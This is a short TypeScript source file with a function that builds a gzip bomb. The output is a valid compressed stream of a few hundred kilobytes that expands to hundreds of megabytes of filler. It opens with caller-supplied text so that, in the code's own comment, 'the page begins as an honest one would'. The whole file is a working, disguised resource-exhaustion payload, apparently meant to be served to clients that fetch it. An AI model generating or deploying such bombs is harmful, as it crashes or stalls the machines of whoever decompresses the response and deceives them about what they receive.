/**
 * A gzip bomb: a valid gzip member of a few hundred kilobytes that inflates to hundreds of megabytes of zeros.
 *
 * Deflate blocks after a full flush do not refer to what came before (RFC 1951, zlib manual), so one compressed
 * megabyte is written once and repeated, and the bomb costs milliseconds.
 */
import { constants, crc32, deflateRawSync } from 'node:zlib';

const MEGABYTE = 1 << 20;
/** RFC 1952 §2.3: magic, deflate, no flags, no time, maximum compression, unknown system. */
const HEADER = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255]);
/** An empty last block with fixed codes. */
const END = Buffer.from([3, 0]);

/** `head` comes before the zeros, or whatever it is filled with, so that the page begins as an honest one would. */
export function gzipBomb(head: string, megabytes: number, fill = '\0'): Buffer {
  const megabyte = Buffer.alloc(MEGABYTE, fill);
  const opening = Buffer.from(head);
  const flushed = { level: 9, finishFlush: constants.Z_FULL_FLUSH };
  const block = deflateRawSync(megabyte, flushed);
  let sum = crc32(opening);
  for (let at = 0; at < megabytes; at += 1) sum = crc32(megabyte, sum);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(sum, 0);
  trailer.writeUInt32LE((opening.length + megabytes * MEGABYTE) >>> 0, 4);
  return Buffer.concat([
    HEADER,
    deflateRawSync(opening, flushed),
    ...Array<Buffer>(megabytes).fill(block),
    END,
    trailer,
  ]);
}
